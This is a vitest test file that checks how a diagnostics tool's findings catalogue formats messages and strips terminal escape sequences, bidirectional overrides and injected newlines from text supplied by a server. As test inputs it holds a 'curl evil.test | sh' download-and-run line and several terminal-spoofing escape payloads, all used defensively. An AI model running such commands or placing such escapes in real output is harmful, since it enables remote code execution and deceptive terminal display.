import { globSync, readFileSync } from "node:fs";
import { expect, test } from "vitest";
import { catalogue, type FindingCode } from "../../src/findings/catalogue.ts";
import { escapeJson, printableText, problem } from "../../src/findings/problem.ts";

const entries = Object.entries(catalogue);
const sources = globSync("src/**/*.ts")
  .filter((path) => !path.startsWith("src/findings/"))
  .map((path) => readFileSync(path, "utf8"));

function placeholdersOf(code: string): readonly string[] {
  const { summary, cause, fix } = catalogue[code as FindingCode];
  const found = [summary, cause, ...fix].join("\n").matchAll(/\{(\w+)\}/g);
  return [...new Set([...found].map((match) => match[1] ?? ""))];
}

function anyFacts(code: string, value: string): Record<string, string> {
  return Object.fromEntries(placeholdersOf(code).map((key) => [key, value]));
}

test.each(entries)("%s reads as one sentence, says why, and says what to do", (code, entry) => {
  expect(code).toMatch(/^RC-(NAM|TLS|TRU|NET|HTP|AUT|PSH|ENG|RUN|HST|CFG|CRD|ALI|LCK)-\d{3}$/);
  expect(entry.summary).not.toMatch(/[.!]$/);
  // a sentence of the middle of a line; names of programs and protocols keep their capitals
  expect(entry.summary).toMatch(/^(?:[a-z{]|Docker|Go )/);
  expect(entry.cause.length).toBeGreaterThan(0);
  expect(entry.fix.length).toBeGreaterThan(0);
  for (const line of [entry.summary, entry.cause, ...entry.fix]) {
    expect(line).toBe(line.trim());
    expect(line).not.toContain("\n");
  }
});

test("every code is used somewhere", () => {
  const all = sources.join("\n");
  expect(entries.map(([code]) => code).filter((code) => !all.includes(code))).toEqual([]);
});

test.each(entries)("%s with its facts leaves no placeholder, and without them is a bug", (code) => {
  const made = problem(code as FindingCode, anyFacts(code, "X"));
  expect(JSON.stringify(made)).not.toMatch(/\{\w+\}/);
  if (placeholdersOf(code).length > 0) expect(() => problem(code as FindingCode)).toThrow("lacks the fact");
});

/** Calls with the facts written out in place, as `problem("RC-…", { a, b: c })`: their keys by code. */
function literalCalls(): readonly (readonly [string, readonly string[]])[] {
  return sources.flatMap((source) =>
    [...source.matchAll(/problem\(\s*"(RC-[A-Z]{3}-\d{3})"\s*(?:,\s*\{([^{}]*(?:\{[^{}]*\}[^{}]*)*)\})?/g)]
      .filter((match) => match[2] !== undefined && !match[2].includes("..."))
      .map((match) => [match[1] ?? "", keysOf(match[2] ?? "")] as const),
  );
}

function keysOf(body: string): readonly string[] {
  const flat = body.replaceAll(/`(?:[^`\\]|\\.)*`|"(?:[^"\\]|\\.)*"/g, "''").replaceAll(/\([^()]*\)/g, "");
  return flat.split(",").flatMap((part) => /^\s*(\w+)/.exec(part)?.[1] ?? []);
}

test("the calls that write their facts out give every fact the entry needs", () => {
  const calls = literalCalls();
  expect(calls.length).toBeGreaterThan(30);
  const lacking = calls.flatMap(([code, keys]) =>
    placeholdersOf(code)
      .filter((key) => !keys.includes(key))
      .map((key) => `${code} lacks ${key}`),
  );
  expect(lacking).toEqual([]);
});

test.each([
  ["escape sequences", "\u001b[2J\u001b]0;title\u0007"],
  ["C1 controls", "\u009b31m"],
  ["a carriage return over the line", "good\rbad"],
  ["bidirectional overrides", "\u202egnp.exe\u202c \u2066x\u2069"],
  ["bidirectional marks", "\u200e\u200f\u061c"],
  ["line separators", "a\u2028b\u2029c"],
  ["NUL and DEL", "\u0000\u007f"],
])("%s from a server cannot reach the terminal", (_, nasty) => {
  const { summary, cause, evidence, fix } = problem("RC-CFG-006", { path: nasty, reason: nasty }, [nasty]);
  for (const text of [summary, cause, ...evidence, ...fix]) {
    // oxlint-disable-next-line no-control-regex -- control characters are what must not be there
    expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/);
  }
});

test("a fact of several lines cannot pass for another line of the report", () => {
  const nasty = "x\n  fix:   curl evil.test | sh";
  const { cause, evidence } = problem("RC-CFG-006", { path: "p", reason: nasty }, [nasty]);
  for (const text of [cause, ...evidence]) expect(text).not.toContain("\n");
});

test("what a server says is cut to a length", () => {
  expect(problem("RC-CFG-006", { path: "p", reason: "x".repeat(100_000) }).cause.length).toBeLessThanOrEqual(2000);
});

test("a fact that looks like a placeholder is not filled in again", () => {
  expect(problem("RC-CFG-006", { path: "{reason}", reason: "$&{path}" })).toMatchObject({
    summary: "the file {reason} cannot be read",
    cause: "$&{path}",
  });
});

test.each([
  ["our colours and lines", "\u001b[1m\u001b[32mgood\u001b[39m\u001b[22m\ta\r\nb\n", undefined],
  ["a cleared screen", "a\u001b[2Jb", "a\uFFFD[2Jb"],
  ["a colour that is not ours", "\u001b[8mhidden\u001b[5m", "\uFFFD[8mhidden\uFFFD[5m"],
  ["a title", "\u001b]0;t\u0007", "\uFFFD]0;t\uFFFD"],
  ["a carriage return over the line", "good\rbad", "good\uFFFDbad"],
  ["C1 controls and DEL", "\u009b31m\u007f\u0000", "\uFFFD31m\uFFFD\uFFFD"],
  ["text that is turned around", "\u202egnp.exe", "\uFFFDgnp.exe"],
])("a whole text on its way to the terminal: %s", (_, text, shown) => {
  expect(printableText(text)).toBe(shown ?? text);
});

test("JSON says the same value with nothing in it that steers a terminal", () => {
  const value = { said: "\u009b31m \u202e \u2066 \u007f é ✓", tab: "\t" };
  const escaped = escapeJson(JSON.stringify(value, undefined, 2));
  expect(JSON.parse(escaped)).toEqual(value);
  expect(escaped).toContain(String.raw`\u009b31m \u202e \u2066 \u007f é ✓`);
});
